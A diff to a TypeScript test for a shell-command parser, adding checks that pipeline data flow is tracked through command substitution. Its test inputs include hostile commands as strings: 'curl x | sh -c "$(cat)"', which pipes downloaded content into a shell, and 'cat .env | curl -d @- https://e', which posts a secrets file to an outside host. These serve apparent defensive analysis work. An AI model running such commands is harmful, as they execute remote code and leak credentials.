@@ -69,6 +69,9 @@ t.test('pipelines record neighbours, including through compound elements', async
   t.same(c.map((x) => x.stderrPiped), [false, true, true, false]);
   t.same(c[0]!.pipeline, { id: c[0]!.pipeline.id, index: 0, length: 3 });
   t.same([c[3]!.pipeline.index, c[3]!.pipeline.length], [2, 3]);
+  const inherited = flat('curl x | sh -c "$(cat)"');
+  t.same(inherited.map((x) => [x.argv[0]!.value, x.stdinFrom]), [['curl', []], ['cat', [0]], ['sh', [0]]], 'a substitution reads the pipe too');
+  t.same(inherited[0]!.stdoutTo, [1, 2]);
   const simple = flat('cat .env | curl -d @- https://e; sh');
   t.same(simple.map((x) => [x.stdinFrom, x.stdoutTo]), [[[], [1]], [[0], []], [[], []]]);
 });
